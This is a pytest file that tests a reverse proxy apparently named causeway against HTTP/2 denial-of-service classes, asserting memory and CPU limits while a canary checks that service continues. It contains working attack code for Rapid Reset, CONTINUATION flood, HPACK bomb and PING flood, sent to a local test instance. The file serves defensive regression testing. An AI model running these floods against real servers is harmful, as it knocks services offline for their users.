"""HTTP/2 denial-of-service classes (docs/security.md §4, rows F01, F03, F04, F05, F10).

Each attack runs on one connection of a raw client (h2probe.py) against causeway with one
worker, so the attacked connection and a canary share the same event loop. The canary keeps
sending requests on its own keep-alive HTTP/1.1 and HTTP/2 connections throughout the attack
and must get only 200s. Memory is causeway's RSS before and after; CPU is its user+system
time during the attack. The measured figures are printed (run with -s to see them).
"""
import os
import socket
import struct
import threading
import time

import pytest
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame

from h2probe import (CANCEL, ERROR_NAMES, MAX_CONCURRENT_STREAMS, NO_ERROR, PROTOCOL_ERROR,
                     REFUSED_STREAM, H2Client, block, indexed, literal, request_headers)
from harness import Causeway, ScriptedUpstream, Whoami, rss_kib, to_yaml, wait_until
from recorder import Recorder

MiB = 1024


def cpu_seconds(pid):
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class Canary:
    """Requests on a keep-alive HTTP/1.1 connection and an HTTP/2 connection, alternately,
    from a thread, until stopped. Every answer must be a 200 from whoami."""

    def __init__(self, port):
        self.port = port
        self.ok = 0
        self.failures = []
        self.max_latency = 0.0
        self.stopping = False
        self.thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self):
        self.thread.start()
        wait_until(lambda: self.ok >= 4 or self.failures, message="canary warmed up")
        return self

    def __exit__(self, *exc):
        self.stopping = True
        self.thread.join(timeout=15)

    def _run(self):
        import http.client
        h1 = h2 = None
        while not self.stopping:
            for kind in ("h1", "h2"):
                start = time.time()
                try:
                    if kind == "h1":
                        h1 = h1 or http.client.HTTPConnection("127.0.0.1", self.port, timeout=5)
                        h1.request("GET", "/canary", headers={"Host": "canary.test"})
                        response = h1.getresponse()
                        body = response.read()
                        status = response.status
                    else:
                        h2 = h2 or H2Client(self.port)
                        s = h2.wait_stream(h2.request(authority="canary.test", path="/canary"), timeout=5)
                        status, body = s.status, bytes(s.body)
                    if status == 200 and b"Name: canary" in body:
                        self.ok += 1
                    else:
                        self.failures.append((kind, status, body[:100]))
                except Exception as e:  # noqa: BLE001 - every failure is reported
                    self.failures.append((kind, repr(e)))
                    h1 = h2 = None
                self.max_latency = max(self.max_latency, time.time() - start)
            time.sleep(0.01)
        if h2:
            h2.close()
        if h1:
            h1.close()

    def check(self, minimum=5):
        assert self.failures == [], self.failures[:5]
        assert self.ok >= minimum, f"only {self.ok} canary requests during the attack"
        assert self.max_latency < 2.0, f"canary waited {self.max_latency:.2f} s"


@pytest.fixture
def target():
    """causeway (1 worker): Host canary.test → whoami; anything else → a recording upstream."""
    rec = Recorder()
    whoami = Whoami("canary")
    started = []

    def start(upstream_url=None, entrypoint_extra=None):
        dynamic = {"http": {
            "routers": {
                "canary": {"rule": "Host(`canary.test`)", "service": "canary"},
                "rest": {"rule": "PathPrefix(`/`)", "service": "rec", "priority": 1},
            },
            "services": {
                "canary": {"loadBalancer": {"servers": [{"url": whoami.url}]}},
                "rec": {"loadBalancer": {"servers": [{"url": upstream_url or rec.url}]}},
            }}}
        cw = Causeway(dynamic={"d.yml": to_yaml(dynamic) + "\n"}, workers=1, entrypoint_extra=entrypoint_extra)
        started.append(cw)

        def ready():
            with H2Client(cw.port()) as c:
                return c.wait_stream(c.request(authority="canary.test", path="/")).status == 200
        wait_until(ready, message="routes ready")
        return cw

    yield start, rec
    for cw in started:
        cw.stop()
    whoami.stop()
    rec.stop()


def measure(cw):
    return rss_kib(cw.pid), cpu_seconds(cw.pid)


def report(name, **figures):
    print(f"\n[{name}] " + ", ".join(f"{k}={v}" for k, v in figures.items()))


# ---------------------------------------------------------------------------------------
# F01 Rapid Reset (CVE-2023-44487)

PAIRS = 5000


@pytest.mark.parametrize("pattern", ["pairs", "split"])
def test_f01_rapid_reset(target, pattern):
    """5000 HEADERS+RST_STREAM pairs on one connection. "pairs": each RST right after its
    HEADERS (16 KiB writes); "split": ten HEADERS, then 2 ms later their ten RSTs, so that
    every request can start before its reset arrives (the worst case for the upstream)."""
    start, rec = target
    cw = start()
    with Canary(cw.port()) as canary:
        rss0, cpu0 = measure(cw)
        c = H2Client(cw.port())
        c.wait_settings()
        hb = block(request_headers(authority="a.test", path="/rapid-reset"))
        sent = 0
        began = time.time()
        try:
            if pattern == "pairs":
                out = bytearray()
                for _ in range(PAIRS):
                    sid = c.new_stream_id()
                    out += HeadersFrame(sid, data=hb, flags=["END_HEADERS", "END_STREAM"]).serialize()
                    out += RstStreamFrame(sid, error_code=CANCEL).serialize()
                    sent += 1
                    if len(out) >= 16384:
                        c.send_raw(bytes(out))
                        out.clear()
                        c.pump(0)
                c.send_raw(bytes(out))
            else:
                for _ in range(0, PAIRS, 10):
                    sids = [c.new_stream_id() for _ in range(10)]
                    c.send_raw(b"".join(HeadersFrame(s, data=hb, flags=["END_HEADERS", "END_STREAM"]).serialize()
                                        for s in sids))
                    time.sleep(0.002)
                    c.send_raw(b"".join(RstStreamFrame(s, error_code=CANCEL).serialize() for s in sids))
                    sent += 10
                    c.pump(0)
                    if c.goaway or c.closed:
                        break
        except OSError:
            pass  # the proxy closed the connection
        c.wait(lambda: c.closed, timeout=2)
        elapsed = time.time() - began
        time.sleep(0.3)
        rss1, cpu1 = measure(cw)
        hits = len([r for r in rec.requests() if r.target == "/rapid-reset"])
        goaway = c.goaway
        c.close()
        report(f"F01 {pattern}", pairs_sent=sent, upstream_hits=hits,
               goaway=goaway and (goaway.last_stream_id, ERROR_NAMES.get(goaway.error_code)),
               closed=c.closed, rss_growth_kib=rss1 - rss0, cpu_s=round(cpu1 - cpu0, 3),
               seconds=round(elapsed, 2))
    canary.check()
    # Bounded upstream work: nghttp2's reset budget (1000) plus at most one window of
    # concurrent streams (250); nginx saw 73 and HAProxy 115 of 5000 in the reference runs.
    assert hits <= 1250, hits
    # The attack does not get through: the connection is closed, or it survived cheaply.
    if not (c.closed or goaway):
        assert hits <= 250, hits
    assert goaway is None or goaway.last_stream_id < 2 * PAIRS
    assert rss1 - rss0 < 12 * MiB, (rss0, rss1)
    assert cpu1 - cpu0 < 3.0, cpu1 - cpu0


# ---------------------------------------------------------------------------------------
# F03 CONTINUATION flood (CVE-2024-27316, CVE-2023-45288, CVE-2024-28182, ...)

def test_f03_continuation_flood(target):
    start, rec = target
    cw = start()
    with Canary(cw.port()) as canary:
        rss0, cpu0 = measure(cw)
        c = H2Client(cw.port())
        c.wait_settings()
        sid = c.new_stream_id()
        c.send(HeadersFrame(sid, data=block(request_headers(authority="a.test", path="/continuation")),
                            flags=["END_STREAM"]))
        fragment = literal("x-filler", "a" * 1000)  # ~1 KiB per CONTINUATION frame
        frames = 0
        try:
            while frames < 20000 and not (c.closed or c.goaway):
                c.send_raw(b"".join(ContinuationFrame(sid, data=fragment).serialize() for _ in range(4)))
                frames += 4
                c.pump(0.002)
        except OSError:
            pass
        accepted = c.bytes_sent
        closed = c.closed or c.wait_closed(2)
        rss1, cpu1 = measure(cw)
        report("F03", continuation_frames_sent=frames, bytes_sent_before_close=accepted, closed=closed,
               goaway=c.goaway and ERROR_NAMES.get(c.goaway.error_code), rss_growth_kib=rss1 - rss0,
               cpu_s=round(cpu1 - cpu0, 3))
        c.close()
    canary.check()
    assert closed, f"still open after {frames} CONTINUATION frames"
    assert accepted < 256 * 1024, accepted  # nghttpd closed after ~31 KiB, HAProxy ~32 KiB
    assert rec.requests() == []
    assert rss1 - rss0 < 4 * MiB, (rss0, rss1)
    assert cpu1 - cpu0 < 2.0


# ---------------------------------------------------------------------------------------
# F04 HPACK bomb (CVE-2016-6581 and later)

def test_f04_hpack_bomb(target):
    """One 4000-byte dynamic-table entry, then 100 header blocks of ~16 KiB that reference it
    ~16,000 times each: 64 MiB decoded per block, 6.4 GiB in all."""
    start, rec = target
    cw = start()
    with Canary(cw.port()) as canary:
        rss0, cpu0 = measure(cw)
        c = H2Client(cw.port())
        c.wait_settings()
        sids = []
        for i in range(100):
            hb = block(request_headers(authority="a.test", path="/bomb"))
            if i == 0:
                hb += literal("x-bomb", "b" * 4000, index=True)  # 4038 bytes: fits the 4096 table
            hb += indexed(62) * (16000 - len(hb))
            sids.append(c.send_headers(header_block=hb))
        c.wait(lambda: all(c.streams[s].done for s in sids) or c.closed or c.goaway is not None, timeout=10)
        streams = [c.streams[s] for s in sids]
        survived = not c.closed and c.goaway is None
        after = c.wait_stream(c.request(authority="a.test", path="/after-bomb")) if survived else None
        rss1, cpu1 = measure(cw)
        report("F04", decoded_bytes_offered=100 * 16000 * 4038,
               resets={ERROR_NAMES.get(s.reset, s.reset) for s in streams},
               goaway=c.goaway and ERROR_NAMES.get(c.goaway.error_code), rss_growth_kib=rss1 - rss0,
               cpu_s=round(cpu1 - cpu0, 3))
        c.close()
    canary.check()
    if survived:
        # Over maxHeaderBytes: 431, as over HTTP/1.1 (the fields past the limit are not kept).
        assert all(s.status == 431 or (s.reset is not None and s.status is None) for s in streams), streams[:5]
        assert after.status == 200, after
    else:
        assert c.goaway is not None and c.goaway.error_code != NO_ERROR
    assert [r.target for r in rec.requests()] == (["/after-bomb"] if survived else [])
    assert rss1 - rss0 < 6 * MiB, (rss0, rss1)
    assert cpu1 - cpu0 < 3.0


# ---------------------------------------------------------------------------------------
# F05 PING flood while not reading (CVE-2019-9512)

TCP_ESTABLISHED = 1


def tcp_state(sock):
    return struct.unpack("B", sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1))[0]


def ping_flood(cw, count=1_000_000):
    """Sends PINGs on a connection whose receive buffer is tiny and never read, until `count`
    are sent or the send side blocks for a second. Returns (client, pings sent)."""
    c = H2Client(cw.port(), rcvbuf=4096)
    c.wait_settings()
    batch = PingFrame(0, opaque_data=b"flooding").serialize() * 1000
    c.sock.settimeout(1.0)
    sent = 0
    try:
        while sent < count:
            c.sock.sendall(batch)
            sent += 1000
    except (socket.timeout, OSError):
        pass
    return c, sent


def test_f05_ping_flood_memory_bounded(target):
    start, _ = target
    cw = start()
    with Canary(cw.port()) as canary:
        rss0, cpu0 = measure(cw)
        c, sent = ping_flood(cw)
        time.sleep(2)
        rss1, cpu1 = measure(cw)
        report("F05", pings_sent=sent, tcp_state=tcp_state(c.sock), rss_growth_kib=rss1 - rss0,
               cpu_s=round(cpu1 - cpu0, 3))
        c.close()
    canary.check()
    assert sent >= 50_000, sent
    assert rss1 - rss0 < 8 * MiB, (rss0, rss1)


def test_f05_ping_flood_connection_closed(target):
    start, _ = target
    cw = start()
    c, sent = ping_flood(cw)
    try:
        closed = wait_until(lambda: tcp_state(c.sock) != TCP_ESTABLISHED, timeout=10, message="closed") \
            if tcp_state(c.sock) == TCP_ESTABLISHED else True
    except TimeoutError:
        closed = False
    finally:
        c.close()
    assert closed, f"connection still established 10 s after {sent} PINGs"


# ---------------------------------------------------------------------------------------
# F10 more streams than SETTINGS_MAX_CONCURRENT_STREAMS

def test_f10_streams_beyond_max_concurrent_streams_are_refused(target):
    start, _ = target

    def slow(conn, head, rest, upstream, index):
        time.sleep(1.0)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nslow")

    upstream = ScriptedUpstream(slow)
    try:
        cw = start(upstream.url, entrypoint_extra={"web": {"http2": {"maxConcurrentStreams": 5}}})
        with H2Client(cw.port()) as c:
            assert c.wait_settings()[MAX_CONCURRENT_STREAMS] == 5
            sids = [c.new_stream_id() for _ in range(10)]
            c.send_raw(b"".join(HeadersFrame(s, data=block(request_headers(authority="a.test", path=f"/s{s}")),
                                             flags=["END_HEADERS", "END_STREAM"]).serialize() for s in sids))
            c.wait(lambda: all(c.streams.get(s) and c.streams[s].done for s in sids) or c.closed, timeout=10)
            streams = [c.streams.get(s) for s in sids]
            answered = [s for s in streams if s and s.status == 200]
            refused = [s for s in streams if s and s.reset in (REFUSED_STREAM, PROTOCOL_ERROR)]
            assert len(answered) == 5 and len(refused) == 5 or (
                c.goaway is not None and c.goaway.error_code == PROTOCOL_ERROR), (streams, c.goaway)
            assert len(upstream.requests) == 5, upstream.requests
            if c.goaway is None:
                # The connection is still usable once streams have finished.
                again = c.wait_stream(c.request(authority="a.test", path="/again"), timeout=5)
                assert again.status == 200, again
    finally:
        upstream.stop()
